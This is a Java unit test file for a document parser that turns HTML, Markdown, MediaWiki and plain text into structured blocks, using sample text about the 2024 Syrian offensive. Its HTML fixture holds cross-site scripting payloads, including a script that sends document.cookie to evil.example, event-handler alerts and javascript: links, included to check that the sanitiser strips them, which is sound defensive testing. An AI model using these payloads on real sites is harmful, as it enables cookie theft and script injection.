package org.annals.source.parse;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class SourceParserTest {

    private final SourceParser parser = new SourceParser();

    private List<DraftBlock> parse(String text, SourceFormat format) {
        return parser.parse(text, format).blocks();
    }

    private static List<String> shape(List<DraftBlock> blocks) {
        return blocks.stream()
                .map(b -> b.kind() + (b.level() > 0 ? String.valueOf(b.level()) : "") + ": " + b.text()
                        + (b.looksLikeChrome() ? " [" + b.chromeReason() + "]" : ""))
                .toList();
    }

    private static String allText(List<DraftBlock> blocks) {
        return blocks.stream().map(DraftBlock::text).collect(Collectors.joining("\n"));
    }

    @Nested
    class Detection {

        @ParameterizedTest
        @CsvSource(textBlock = """
                page.html,        HTML
                PAGE.HTM,         HTML
                notes.md,         MARKDOWN
                notes.markdown,   MARKDOWN
                article.wiki,     MEDIAWIKI
                article.mediawiki, MEDIAWIKI
                """)
        void the_extension_decides_when_it_names_a_format(String filename, SourceFormat expected) {
            assertThat(SourceParser.detect(filename, "just some words")).isEqualTo(expected);
        }

        @Test
        void html_is_recognised_by_its_start_even_in_a_txt_file() {
            assertThat(SourceParser.detect("saved.txt", "\n  <!DOCTYPE html><html><body>x</body></html>"))
                    .isEqualTo(SourceFormat.HTML);
            assertThat(SourceParser.detect("saved", "<!-- saved from url=(0031)https://example.org/news/1 -->\n"
                    + "<!-- another -->\n<!DOCTYPE html><html><body>x</body></html>")).isEqualTo(SourceFormat.HTML);
            assertThat(SourceParser.detect("note.txt", "<!-- a comment --> and then words")).isEqualTo(
                    SourceFormat.PLAIN_TEXT);
            assertThat(SourceParser.detect("saved.txt", "<html lang=\"ar\"><p>x</p></html>"))
                    .isEqualTo(SourceFormat.HTML);
        }

        @Test
        void wiki_headings_make_a_text_mediawiki() {
            assertThat(SourceParser.detect("a.txt", "= Title =\n\nText.\n\n==See also==\n- x"))
                    .isEqualTo(SourceFormat.MEDIAWIKI);
            assertThat(SourceParser.detect(null, "Intro.\n\n== Background ==\nText.")).isEqualTo(SourceFormat.MEDIAWIKI);
        }

        @Test
        void hash_headings_with_markdown_structure_make_a_text_markdown() {
            assertThat(SourceParser.detect("a.txt", "# Title\n\nSome **bold** text.\n\n- item"))
                    .isEqualTo(SourceFormat.MARKDOWN);
            assertThat(SourceParser.detect("", "# One\n\ntext\n\n## Two\n\ntext")).isEqualTo(SourceFormat.MARKDOWN);
        }

        @Test
        void anything_else_is_plain_text() {
            assertThat(SourceParser.detect("a.txt", "Title\nI. Prelude:\nText.")).isEqualTo(SourceFormat.PLAIN_TEXT);
            assertThat(SourceParser.detect("data.csv", "a | b | c\n---|---|---")).isEqualTo(SourceFormat.PLAIN_TEXT);
            assertThat(SourceParser.detect("a.txt", "# not markdown on its own")).isEqualTo(SourceFormat.PLAIN_TEXT);
            assertThat(SourceParser.detect("a.txt", "")).isEqualTo(SourceFormat.PLAIN_TEXT);
        }
    }

    @Nested
    class PlainText {

        @Test
        void numbered_roman_headings_become_sections() {
            String text = """
                    Syrian Opposition Offensive of 2024
                    I. Prelude:
                    Since the March 2020 Idlib ceasefire agreement, large scale operations ceased.
                    II. Beginning:
                    On 27 November 2024, HTS announced an offensive.
                    VIII. Sources All from Wikipedia:
                    https://en.wikipedia.org/wiki/A
                    https://en.wikipedia.org/wiki/B
                    """;
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly(
                    "HEADING1: Syrian Opposition Offensive of 2024",
                    "HEADING2: I. Prelude",
                    "PARAGRAPH: Since the March 2020 Idlib ceasefire agreement, large scale operations ceased.",
                    "HEADING2: II. Beginning",
                    "PARAGRAPH: On 27 November 2024, HTS announced an offensive.",
                    "HEADING2: VIII. Sources All from Wikipedia",
                    "LIST: https://en.wikipedia.org/wiki/A\nhttps://en.wikipedia.org/wiki/B");
            assertThat(parser.parse(text, SourceFormat.PLAIN_TEXT).title()).isEqualTo("Syrian Opposition Offensive of 2024");
        }

        @Test
        void a_run_of_numbered_lines_is_a_list_not_a_run_of_headings() {
            String text = "Shopping\n\n1. Bread\n2. Olive oil\n3. Za'atar\n";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT)))
                    .containsExactly("HEADING1: Shopping", "LIST: Bread\nOlive oil\nZa'atar");
        }

        @Test
        void every_long_line_is_its_own_paragraph_when_there_are_no_blank_lines() {
            String text = "Title\nThe first paragraph ends here.\nThe second one ends here too.\nAnd a third.";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: Title",
                    "PARAGRAPH: The first paragraph ends here.", "PARAGRAPH: The second one ends here too.",
                    "PARAGRAPH: And a third.");
        }

        @Test
        void a_line_cut_mid_sentence_continues_on_the_next_line() {
            String text = "Title\nThe offensive began on 27 November and\ncontinued for eleven days.\nNext paragraph.";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: Title",
                    "PARAGRAPH: The offensive began on 27 November and continued for eleven days.",
                    "PARAGRAPH: Next paragraph.");
        }

        @Test
        void hard_wrapped_paragraphs_are_joined_and_never_split() {
            String text = """
                    A Wrapped Text

                    This paragraph was wrapped at a fixed width by an old editor. It goes on.
                    The line above ends a sentence, yet this line still belongs to the same
                    paragraph, because only blank lines separate paragraphs in this shape.

                    Background

                    A second paragraph, also wrapped across more than one line of text, as
                    plain text files from archives usually are.
                    """;
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly(
                    "HEADING1: A Wrapped Text",
                    "PARAGRAPH: This paragraph was wrapped at a fixed width by an old editor. It goes on. The line above"
                            + " ends a sentence, yet this line still belongs to the same paragraph, because only blank"
                            + " lines separate paragraphs in this shape.",
                    "HEADING2: Background",
                    "PARAGRAPH: A second paragraph, also wrapped across more than one line of text, as plain text"
                            + " files from archives usually are.");
        }

        @Test
        void short_lines_standing_alone_are_section_headings() {
            String text = """
                    2024 Homs offensive

                    The 2024 Homs offensive was a military operation. [12]

                    Background

                    On 5 November 2024, Israeli airstrikes targeted depots. [13]

                    See also

                    Notes
                    """;
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly(
                    "HEADING1: 2024 Homs offensive",
                    "PARAGRAPH: The 2024 Homs offensive was a military operation. [12]",
                    "HEADING2: Background",
                    "PARAGRAPH: On 5 November 2024, Israeli airstrikes targeted depots. [13]",
                    "HEADING2: See also",
                    "HEADING2: Notes");
        }

        @Test
        void pipe_rows_become_one_table_without_separator_rows_and_empty_cells() {
            String text = """
                    Battle of Aleppo (2024) | |||||||||
                    ---|---|---|---|
                    Belligerents | |||||||||
                    Syrian Salvation Government | Ba'athist Syria Russia [10] | ||||||||
                    | |||||||||
                    22 civilians killed [22] [23] |
                    On 29 November 2024, the battle began. [24]
                    """;
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly(
                    "HEADING1: Battle of Aleppo (2024)",
                    "TABLE: Belligerents\nSyrian Salvation Government | Ba'athist Syria Russia [10]\n"
                            + "22 civilians killed [22] [23]",
                    "PARAGRAPH: On 29 November 2024, the battle began. [24]");
        }

        @Test
        void infobox_lines_at_the_top_become_one_table_with_a_row_per_key() {
            String text = """
                    2024 Hama offensive

                    2024 Hama offensive
                    Part of the 2024 Syrian opposition offensive
                    Flag of Syria.svg
                    Date30 November 2024 – 5 December 2024
                    (5 days)
                    Location
                    Hama Governorate, Syria
                    Status Syrian opposition victory[2]
                    Territorial
                    changes
                    Rebels capture Hama[2][3]
                    Belligerents
                     Syrian Arab Republic
                    Flag of Russia.svg  Russia[1]

                    Military Operations Command

                    The 2024 Hama offensive was a military operation launched by forces of the Syrian Salvation \
                    Government during the 2024 Syrian opposition offensive, a phase of the Syrian civil war.
                    """;
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly(
                    "HEADING1: 2024 Hama offensive",
                    "PARAGRAPH: Flag of Syria.svg [image file name]",
                    "TABLE: 2024 Hama offensive\nPart of the 2024 Syrian opposition offensive\n"
                            + "Date | 30 November 2024 – 5 December 2024 (5 days)\n"
                            + "Location | Hama Governorate, Syria\n"
                            + "Status | Syrian opposition victory[2]\n"
                            + "Territorial changes | Rebels capture Hama[2][3]\n"
                            + "Belligerents | Syrian Arab Republic | Russia[1] | Military Operations Command",
                    "PARAGRAPH: The 2024 Hama offensive was a military operation launched by forces of the Syrian"
                            + " Salvation Government during the 2024 Syrian opposition offensive, a phase of the Syrian"
                            + " civil war.");
        }

        @Test
        void an_attribution_line_turns_the_paragraph_before_it_into_a_quote() {
            String text = "Title\n\nThere was no backup.\n\n—Amr, Syrian Army conscript[20]\n\nNext.";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: Title",
                    "QUOTE: There was no backup.\n—Amr, Syrian Army conscript[20]", "PARAGRAPH: Next.");
        }

        @Test
        void every_character_is_kept_angle_brackets_and_tag_like_text_included() {
            String text = "Title\n\nif a<b and c>d then <span class=\"x\">kept</span> &amp; as written.\n\n"
                    + "Before <script>alert('x')</script>after.";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: Title",
                    "PARAGRAPH: if a<b and c>d then <span class=\"x\">kept</span> &amp; as written.",
                    "PARAGRAPH: Before <script>alert('x')</script>after.");
        }

        @Test
        void reference_lists_lose_their_back_links_but_keep_their_text() {
            String text = "References\n\n  1. ^ a b \"Syrian rebels capture Hama\". CNN.\n  2. ^ \"Report\". AP.\n"
                    + "  3. 1 2 \"Syrian army quits Homs\". Reuters .";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: References",
                    "LIST: \"Syrian rebels capture Hama\". CNN.\n\"Report\". AP.\n\"Syrian army quits Homs\". Reuters .");
        }

        @Test
        void any_line_endings_and_odd_white_space_are_normalised() {
            String text = "\uFEFFTitle\r\n\r\nFirst\u00A0 paragraph\twith   gaps.\rSecond paragraph.\r\n";
            assertThat(shape(parse(text, SourceFormat.PLAIN_TEXT))).containsExactly("HEADING1: Title",
                    "PARAGRAPH: First paragraph with gaps.", "PARAGRAPH: Second paragraph.");
        }

        @Test
        void citation_markers_stay_in_the_text() {
            String text = "Title\nRebels took the city. [27] [a] [ better source needed ]\nMore.[20][b]";
            assertThat(allText(parse(text, SourceFormat.PLAIN_TEXT)))
                    .contains("Rebels took the city. [27] [a] [ better source needed ]", "More.[20][b]");
        }

        @Test
        void an_empty_text_gives_an_empty_draft() {
            SourceDraft draft = parser.parse("  \n\n ", SourceFormat.PLAIN_TEXT);
            assertThat(draft.blocks()).isEmpty();
            assertThat(draft.title()).isNull();
        }
    }

    @Nested
    class Markdown {

        @Test
        void headings_paragraphs_lists_quotes_and_tables_map_to_blocks() {
            String text = """
                    # The Offensive

                    Rebels advanced
                    quickly southward.

                    ## Timeline

                    - 27 November: launch
                    - 29 November: Aleppo
                      - the citadel
                      - the airport
                    1. first
                    2. second

                    > We kept being told
                    > backup is on the way.
                    >
                    > — a conscript

                    | Date | Event |
                    |------|:-----:|
                    | 5 Dec | Hama falls |
                    | | |

                    ###### Deep
                    Setext heading
                    ==============
                    """;
            assertThat(shape(parse(text, SourceFormat.MARKDOWN))).containsExactly(
                    "HEADING1: The Offensive",
                    "PARAGRAPH: Rebels advanced quickly southward.",
                    "HEADING2: Timeline",
                    "LIST: 27 November: launch\n29 November: Aleppo\n  the citadel\n  the airport\nfirst\nsecond",
                    "QUOTE: We kept being told backup is on the way.\n— a conscript",
                    "TABLE: Date | Event\n5 Dec | Hama falls",
                    "HEADING6: Deep",
                    "HEADING1: Setext heading");
        }

        @Test
        void inline_markup_is_removed_but_words_and_citations_stay() {
            String text = "Some **bold**, *italic*, _under_, ~~gone~~ and `code` with a [link](https://x.org \"t\")"
                    + " to Battle_of_Aleppo_(2024), 5 * 3, escaped \\*stars\\* and citations [27] [a].";
            assertThat(shape(parse(text, SourceFormat.MARKDOWN))).containsExactly(
                    "PARAGRAPH: Some bold, italic, under, gone and code with a link to Battle_of_Aleppo_(2024),"
                            + " 5 * 3, escaped *stars* and citations [27] [a].");
        }

        @Test
        void reference_links_keep_their_text_and_definitions_disappear() {
            String text = "See [the report][r1] and [Reuters].\n\n[r1]: https://example.org/report\n"
                    + "[reuters]: https://reuters.com";
            assertThat(shape(parse(text, SourceFormat.MARKDOWN)))
                    .containsExactly("PARAGRAPH: See the report and Reuters.");
        }

        @Test
        void images_become_blocks_of_their_own_flagged_as_chrome() {
            String text = "![Map of Homs](img/homs.png)\n\nText with ![](icons/flag.svg) an icon.";
            assertThat(shape(parse(text, SourceFormat.MARKDOWN))).containsExactly(
                    "PARAGRAPH: Map of Homs [image]",
                    "PARAGRAPH: Text with an icon.",
                    "PARAGRAPH: flag.svg [image]");
        }

        @Test
        void html_inside_markdown_loses_scripts_like_an_html_import() {
            String text = "# Title\n\n<script>\nstealCookies();\n</script>\n\nText <b onclick=\"x()\">bold</b>.";
            assertThat(allText(parse(text, SourceFormat.MARKDOWN))).doesNotContain("stealCookies", "onclick", "x()")
                    .contains("Text bold.");
        }

        @Test
        void inline_html_keeps_its_words_and_loses_script_content() {
            String text = "Rebels <span class=\"x\">entered</span> Hama<script>alert(1)</script> at dawn &amp; noon.";
            assertThat(shape(parse(text, SourceFormat.MARKDOWN)))
                    .containsExactly("PARAGRAPH: Rebels entered Hama at dawn & noon.");
        }

        @Test
        void code_lists_in_quotes_and_items_with_several_paragraphs_keep_their_words() {
            String text = """
                    > - first point
                    > - second point

                    - An item

                      with a second paragraph
                    - `code` item

                    Text.

                        indented code *stays as written*
                    """;
            assertThat(shape(parse(text, SourceFormat.MARKDOWN))).containsExactly(
                    "QUOTE: first point\nsecond point",
                    "LIST: An item with a second paragraph\ncode item",
                    "PARAGRAPH: Text.",
                    "PARAGRAPH: indented code *stays as written*");
        }

        @Test
        void a_year_ending_a_line_does_not_start_a_list_inside_a_paragraph() {
            String text = "The ceasefire held until\n2024. It then collapsed.";
            assertThat(shape(parse(text, SourceFormat.MARKDOWN)))
                    .containsExactly("PARAGRAPH: The ceasefire held until 2024. It then collapsed.");
        }
    }

    @Nested
    class Html {

        private static final String HOSTILE = """
                <!DOCTYPE html>
                <html><head><title>2024 Hama offensive - Wikipedia</title>
                <style>body { background: url(javascript:alert(1)) } .x::after { content: "STYLE-TEXT" }</style>
                <script>document.location = 'https://evil.example/?c=' + document.cookie</script>
                </head>
                <body onload="alert('onload')">
                <nav><a href="/">Main page</a> <a href="#content">Jump to content</a></nav>
                <header><p>Site banner</p></header>
                <article>
                  <header><h1>2024 Hama offensive<span class="mw-editsection">[edit]</span></h1></header>
                  <p>Rebels <b>captured</b> Hama.<sup>[2]</sup><img src=x onerror="alert('img')"></p>
                  <p><a href="javascript:alert('link')">Click here</a> for the <i>map</i>.</p>
                  <noscript>NOSCRIPT-TEXT</noscript>
                  <template><p>TEMPLATE-TEXT</p></template>
                  <iframe src="https://evil.example">IFRAME-TEXT</iframe>
                  <svg><script>alert('svg')</script><text>SVG-TEXT</text></svg>
                  <object data="x.swf">OBJECT-TEXT</object><embed src="x.swf">
                  <h2>Background</h2>
                  <div>Loose text in a div <p>and a paragraph inside it</p> and a tail.</div>
                  <h3 onmouseover="alert('h3')">Opening advances</h3>
                  <ul><li>Aleppo<ul><li>Citadel</li></ul></li><li><a href="javascript:void(0)">Hama</a></li></ul>
                  <table><caption>Strength</caption>
                    <tr><th>Side</th><th>Fighters</th></tr>
                    <tr><td>HTS</td><td></td><td>15,000</td></tr>
                  </table>
                  <blockquote><p>There was no backup.</p><p>—Amr</p></blockquote>
                  <figure><img src="map.png"><figcaption>Map of the offensive</figcaption></figure>
                </article>
                <aside>Related: <a href="/x">Fall of Damascus</a></aside>
                <footer>Retrieved from wikipedia</footer>
                <script>alert('end')</script>
                </body></html>
                """;

        @Test
        void scripts_handlers_styles_and_javascript_links_never_reach_any_block() {
            String text = allText(parse(HOSTILE, SourceFormat.HTML));
            assertThat(text).doesNotContain("alert", "javascript", "onerror", "onload", "onmouseover", "cookie",
                    "evil", "STYLE-TEXT", "NOSCRIPT-TEXT", "TEMPLATE-TEXT", "IFRAME-TEXT", "SVG-TEXT", "OBJECT-TEXT",
                    "background", "<", ">", "[edit]");
        }

        @Test
        void elements_map_to_blocks_in_reading_order() {
            SourceDraft draft = parser.parse(HOSTILE, SourceFormat.HTML);
            assertThat(draft.title()).isEqualTo("2024 Hama offensive");
            assertThat(shape(draft.blocks())).containsExactly(
                    "PARAGRAPH: Main page Jump to content [navigation]",
                    "PARAGRAPH: Site banner [page header]",
                    "HEADING1: 2024 Hama offensive",
                    "PARAGRAPH: Rebels captured Hama.[2]",
                    "PARAGRAPH: Click here for the map.",
                    "HEADING2: Background",
                    "PARAGRAPH: Loose text in a div",
                    "PARAGRAPH: and a paragraph inside it",
                    "PARAGRAPH: and a tail.",
                    "HEADING3: Opening advances",
                    "LIST: Aleppo\n  Citadel\nHama",
                    "TABLE: Strength\nSide | Fighters\nHTS | 15,000",
                    "QUOTE: There was no backup.\n—Amr",
                    "PARAGRAPH: Map of the offensive [image caption]",
                    "PARAGRAPH: Related: Fall of Damascus [sidebar]",
                    "PARAGRAPH: Retrieved from wikipedia [page footer]");
        }

        @Test
        void only_the_content_of_chrome_elements_is_flagged() {
            String html = "<div>Rebels entered Homs. <nav>Home | Next</nav> Residents celebrated.</div>"
                    + "<section><header><h2>Aftermath</h2></header><footer>Filed under: Syria</footer></section>";
            assertThat(shape(parse(html, SourceFormat.HTML))).containsExactly(
                    "PARAGRAPH: Rebels entered Homs.",
                    "PARAGRAPH: Home | Next [navigation]",
                    "PARAGRAPH: Residents celebrated.",
                    "HEADING2: Aftermath",
                    "PARAGRAPH: Filed under: Syria");
        }

        @Test
        void the_title_falls_back_to_the_first_h1() {
            SourceDraft draft = parser.parse("<p>Intro</p><h1>Fall of Damascus</h1>", SourceFormat.HTML);
            assertThat(draft.title()).isEqualTo("Fall of Damascus");
            assertThat(parser.parse("<p>No title here</p>", SourceFormat.HTML).title()).isNull();
        }
    }

    @Nested
    class MediaWiki {

        @Test
        void equals_signs_give_heading_levels_with_or_without_spaces() {
            String text = "= Northwestern Syria offensive (2024) =\n\n== Background ==\nText.\n"
                    + "=== Beginning of the offensive ===\n\n==See also==\n";
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "HEADING1: Northwestern Syria offensive (2024)", "HEADING2: Background", "PARAGRAPH: Text.",
                    "HEADING3: Beginning of the offensive", "HEADING2: See also");
        }

        @Test
        void links_quotes_templates_and_refs_leave_only_the_words() {
            String text = "'''Aleppo''' fell to [[Hay'at Tahrir al-Sham|HTS]] and [[Syrian National Army]]s{{citation"
                    + " needed|date=December 2024}}.<ref>{{cite web|url=x}}</ref> See [https://example.org the report]"
                    + " and ''[[Reuters]]''.<ref name=\"a\" /> [[File:Map.png|thumb|A map]][[Category:2024]] [27]";
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "PARAGRAPH: Aleppo fell to HTS and Syrian National Armys. See the report and Reuters. [27]");
        }

        @Test
        void an_infobox_becomes_one_table_with_its_label_folded_in() {
            String text = """
                    Infobox
                    - Date: 27 November – 5 December 2024, ()
                    - Combatant1: , * Syrian Salvation Government, * Syrian Interim Government
                    - Combatant2: Syrian Government | | | | Popular Mobilization Forces
                    - Strength1: 15,000 (est. 2022) | 80,000 (est. 2025)

                    On 27 November 2024, the offensive began.
                    """;
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "TABLE: Date | 27 November – 5 December 2024\n"
                            + "Combatant1 | Syrian Salvation Government, Syrian Interim Government\n"
                            + "Combatant2 | Syrian Government | Popular Mobilization Forces\n"
                            + "Strength1 | 15,000 (est. 2022) | 80,000 (est. 2025)",
                    "PARAGRAPH: On 27 November 2024, the offensive began.");
        }

        @Test
        void a_real_infobox_template_becomes_the_same_table() {
            String text = "{{Infobox military conflict\n| conflict = Battle of [[Aleppo]]\n| date = 2024{{efn|x}}\n"
                    + "| result = Rebel victory\n}}\nThe battle began.";
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "TABLE: conflict | Battle of Aleppo\ndate | 2024\nresult | Rebel victory",
                    "PARAGRAPH: The battle began.");
        }

        @Test
        void list_nesting_comes_from_indentation_or_from_repeated_stars() {
            String text = "- 2024 Syrian opposition offensives\n  - Deir ez-Zor offensive (2024)\n- 1975 spring offensive"
                    + "\n\n* Aleppo\n** [[Citadel of Aleppo|Citadel]]\n# first\n## second";
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "LIST: 2024 Syrian opposition offensives\n  Deir ez-Zor offensive (2024)\n1975 spring offensive",
                    "LIST: Aleppo\n  Citadel\nfirst\n  second");
        }

        @Test
        void wikitables_become_tables() {
            String text = "{| class=\"wikitable\"\n|+ Casualties\n! Side !! Killed\n|-\n| style=\"x\" | HTS || 311\n"
                    + "|-\n| Government || 220\n|}\nAfter.";
            assertThat(shape(parse(text, SourceFormat.MEDIAWIKI))).containsExactly(
                    "TABLE: Casualties\nSide | Killed\nHTS | 311\nGovernment | 220", "PARAGRAPH: After.");
        }
    }

    @Test
    void right_to_left_text_with_emoji_survives_every_format_intact() {
        String arabic = "سقطت حماة في ٥ كانون الأول ٢٠٢٤ 🕊️ وفرّ آلاف السكان 👨‍👩‍👧";
        assertThat(allText(parse("العنوان\n" + arabic, SourceFormat.PLAIN_TEXT))).contains(arabic);
        assertThat(allText(parse("# العنوان\n\n" + arabic, SourceFormat.MARKDOWN))).contains(arabic);
        assertThat(allText(parse("<html dir=rtl><body><h1>العنوان</h1><p>" + arabic + "</p></body></html>",
                SourceFormat.HTML))).contains(arabic);
        assertThat(allText(parse("= العنوان =\n\n" + arabic, SourceFormat.MEDIAWIKI))).contains(arabic);
        assertThat(parser.parse("العنوان\n" + arabic, SourceFormat.PLAIN_TEXT).title()).isEqualTo("العنوان");
    }

    @ParameterizedTest
    @EnumSource(value = SourceFormat.class, names = {"HTML", "MARKDOWN", "MEDIAWIKI", "PLAIN_TEXT"})
    void five_megabytes_parse_completely(SourceFormat format) {
        String unit = switch (format) {
            case PLAIN_TEXT -> "Background\n\nOn 5 December, opposition forces captured Hama. [16] Thousands fled.\n\n";
            case MARKDOWN -> "## Background\n\nOn 5 December, **opposition** forces captured [Hama](x). [16]\n\n";
            case HTML -> "<h2>Background</h2><p>On 5 December, <b>opposition</b> forces captured Hama. [16]</p>\n";
            case MEDIAWIKI -> "== Background ==\n\nOn 5 December, [[opposition]] forces captured '''Hama'''.\n\n";
            case PDF, DOCX, ODT -> throw new IllegalArgumentException("documents are read from bytes");
        };
        String text = unit.repeat(5_000_000 / unit.length() + 1);
        // Speed is measured by SourceImportBenchmark (docs/performance.md), never asserted in a test.
        List<DraftBlock> blocks = parse(text, format);
        assertThat(blocks).hasSizeGreaterThan(50_000);
        assertThat(blocks.getLast().text()).doesNotContain("<b>", "**", "[[");
    }
}
